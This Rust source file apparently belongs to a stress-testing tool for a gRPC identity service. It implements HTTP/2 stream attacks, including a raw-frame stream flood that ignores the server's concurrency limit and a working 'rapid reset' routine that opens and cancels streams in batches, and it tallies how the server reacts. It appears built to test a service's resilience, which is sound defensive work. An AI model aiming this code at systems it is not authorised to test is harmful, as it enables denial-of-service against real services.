//! The stream attacks, on one HTTP/2 connection at a time: many concurrent
//! calls through hyper's client (which keeps to the server's stream limit),
//! as many streams in raw frames that ignore the limit, and "rapid reset"
//! (open a stream, cancel it at once, repeat). [`StreamAttack`] names them.

use std::collections::HashSet;
use std::sync::Arc;
use std::time::Duration;

use bytes::{Buf as _, Bytes, BytesMut};
use prost::Message as _;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::{Instant, timeout_at};

use super::config::Kind;
use super::raw_h2::{
    DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, RawH2, hpack_literal, put_frame,
};
use super::reply::{End, Reply, h2_error_name};
use super::run::Ctx;
use super::tally::{Tallies, Tally};
use crate::conn::{ConnTasks, Lane};
use crate::proto::AuthenticationRequest;
use crate::protocol::{HttpVersion, Protocol};
use crate::wire::{Call, Payload, Wire, grpc_frame};

/// What a stream attacker does on each connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, clap::ValueEnum)]
pub enum StreamAttack {
    /// `streams_per_connection` concurrent get_public_key calls over hyper's
    /// HTTP/2 client, which queues streams beyond the server's limit: valid
    /// calls, i.e. extra load rather than an attack.
    HyperConcurrent,
    /// `streams_per_connection` streams in raw frames at once, ignoring the
    /// server's SETTINGS_MAX_CONCURRENT_STREAMS.
    RawOverLimit,
    /// Open a stream and cancel it at once (RST_STREAM), in batches.
    RapidReset,
}

impl StreamAttack {
    /// The flavour name in the report.
    pub fn name(self) -> &'static str {
        match self {
            StreamAttack::HyperConcurrent => "hyper-concurrent",
            StreamAttack::RawOverLimit => "raw-over-limit",
            StreamAttack::RapidReset => "rapid-reset",
        }
    }

    /// Every flavour.
    pub const ALL: [StreamAttack; 3] = [
        StreamAttack::HyperConcurrent,
        StreamAttack::RawOverLimit,
        StreamAttack::RapidReset,
    ];
}

pub(super) async fn streams_attacker(ctx: Arc<Ctx>, index: usize) -> Tallies {
    let mut tallies = Tallies::default();
    let mut n = index;
    while ctx.running() {
        let kinds = &ctx.cfg.stream_kinds;
        let attack = kinds[n % kinds.len()];
        n += 1;
        let tally = tallies.of(Kind::Streams, attack.name());
        tally.attempts += 1;
        match attack {
            StreamAttack::HyperConcurrent => hyper_concurrent(&ctx, tally).await,
            StreamAttack::RawOverLimit => raw_over_limit(&ctx, tally).await,
            StreamAttack::RapidReset => rapid_reset(&ctx, tally).await,
        }
    }
    tallies
}

/// `streams_per_connection` concurrent get_public_key calls over hyper's
/// HTTP/2 client on one connection (which queues streams beyond the
/// server's SETTINGS_MAX_CONCURRENT_STREAMS).
async fn hyper_concurrent(ctx: &Ctx, tally: &mut Tally) {
    let payload = Payload {
        domain_id: ctx.cfg.domain.clone(),
        ..Payload::default()
    };
    let wire = match Wire::new(
        Protocol::Grpc,
        HttpVersion::H2,
        &ctx.authority,
        &ctx.prefix,
        &payload,
    ) {
        Ok(w) => Arc::new(w),
        Err(e) => return tally.add(format!("bad request: {e}"), 1),
    };
    let tasks = ConnTasks::default();
    let n = ctx.cfg.streams_per_connection;
    let lanes = match Lane::open_worker(ctx.dial, HttpVersion::H2, n, &tasks).await {
        Ok(l) => l,
        Err(f) => return tally.add(format!("connection: {}", f.key), 1),
    };
    let until = (Instant::now() + ctx.cfg.attempt_timeout).min(ctx.give_up);
    let mut calls = JoinSet::new();
    for mut lane in lanes {
        let wire = wire.clone();
        calls.spawn(async move {
            let call = async {
                let r = lane.send(wire.request(Call::GetPublicKey, None)?).await?;
                wire.judge(
                    Call::GetPublicKey,
                    r.status,
                    &r.headers,
                    r.body,
                    r.trailers.as_ref(),
                )
            };
            match timeout_at(until, call).await {
                Ok(Ok(_)) => "call ok".to_owned(),
                Ok(Err(f)) => format!("call failed: {}", f.key),
                Err(_) => "call unanswered".to_owned(),
            }
        });
    }
    while let Some(r) = calls.join_next().await {
        tally.add(r.unwrap_or_else(|e| format!("call task: {e}")), 1);
    }
    tasks.abort_all();
}

/// Raw frames: `streams_per_connection` get_public_key streams sent at once,
/// ignoring the server's stream limit; counts answered and refused streams.
async fn raw_over_limit(ctx: &Ctx, tally: &mut Tally) {
    let until = (Instant::now() + ctx.cfg.attempt_timeout).min(ctx.give_up);
    let started = Instant::now();
    let mut conn = match RawH2::open(ctx.dial, until).await {
        Ok(c) => c,
        Err(end) => return tally.add(format!("handshake: {end}"), 1),
    };
    let n = ctx.cfg.streams_per_connection;
    let headers = get_public_key_headers(ctx);
    let message = grpc_frame(
        &AuthenticationRequest {
            domain_id: ctx.cfg.domain.clone(),
        }
        .encode_to_vec(),
    );
    let mut out = BytesMut::new();
    for i in 0..n {
        let id = 1 + 2 * i as u32;
        put_frame(&mut out, HEADERS, END_HEADERS, id, &headers);
        put_frame(&mut out, DATA, END_STREAM, id, &message);
    }
    if conn.wr.write_all(&out).await.is_err() {
        return tally.add("write failed", 1);
    }
    let mut done = HashSet::new();
    let mut goaway = None;
    let end = loop {
        if done.len() == n {
            break End::Answered;
        }
        let frame = match conn.next_frame(until).await {
            Ok(f) => f,
            Err(end) => break end,
        };
        let ended = match frame.kind {
            HEADERS | DATA if frame.flags & END_STREAM != 0 => Some("stream answered".to_owned()),
            RST_STREAM if frame.payload.len() >= 4 => {
                let code = frame.payload.clone().get_u32();
                Some(format!("stream reset {}", h2_error_name(code)))
            }
            GOAWAY => {
                goaway = goaway.or(frame.goaway_code());
                None
            }
            _ => None,
        };
        // Each stream counts once (a reset may follow an answer).
        if let Some(key) = ended
            && done.insert(frame.stream)
        {
            tally.add(key, 1);
        }
    };
    let unanswered = (n - done.len()) as u64;
    if unanswered > 0 {
        tally.add("stream unanswered", unanswered);
    }
    let reply = Reply::H2 { goaway };
    tally.add(format!("connection: {reply}, {end}"), 1);
    if matches!(end, End::Closed | End::Reset) {
        tally.record_close(started.elapsed());
    }
}

/// Raw frames: open a stream (HEADERS without END_STREAM) and cancel it
/// (RST_STREAM CANCEL) at once, in batches of 100, until the server sends
/// GOAWAY or closes, or `rapid_reset_streams` were sent.
async fn rapid_reset(ctx: &Ctx, tally: &mut Tally) {
    let until = (Instant::now() + ctx.cfg.attempt_timeout).min(ctx.give_up);
    let started = Instant::now();
    let mut conn = match RawH2::open(ctx.dial, until).await {
        Ok(c) => c,
        Err(end) => return tally.add(format!("handshake: {end}"), 1),
    };
    let headers = get_public_key_headers(ctx);
    let mut sent = 0usize;
    let mut goaway = None;
    let end = 'outer: loop {
        if sent >= ctx.cfg.rapid_reset_streams || Instant::now() >= until {
            break End::StillOpen;
        }
        let mut out = BytesMut::new();
        for _ in 0..100 {
            let id = 1 + 2 * sent as u32;
            put_frame(&mut out, HEADERS, END_HEADERS, id, &headers);
            put_frame(&mut out, RST_STREAM, 0, id, &8u32.to_be_bytes());
            sent += 1;
        }
        if conn.wr.write_all(&out).await.is_err() {
            break conn.finish(until).await;
        }
        // Read what is there before the next batch.
        let peek = (Instant::now() + Duration::from_millis(2)).min(until);
        loop {
            match conn.next_frame(peek).await {
                Ok(f) if f.kind == GOAWAY => {
                    goaway = f.goaway_code();
                    break 'outer conn.finish(until).await;
                }
                Ok(_) => {}
                Err(End::StillOpen) => break,
                Err(end) => break 'outer end,
            }
        }
    };
    tally.add("streams opened and cancelled", sent as u64);
    tally.add(format!("connection: {}, {end}", Reply::H2 { goaway }), 1);
    if matches!(end, End::Closed | End::Reset) {
        tally.record_close(started.elapsed());
    }
}

fn get_public_key_headers(ctx: &Ctx) -> Bytes {
    let path = format!(
        "{}/spaceone.api.identity.v1.Domain/get_public_key",
        ctx.prefix
    );
    let mut block = BytesMut::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path.as_str()),
        (":authority", ctx.authority.as_str()),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        hpack_literal(&mut block, name.as_bytes(), value.as_bytes());
    }
    block.freeze()
}
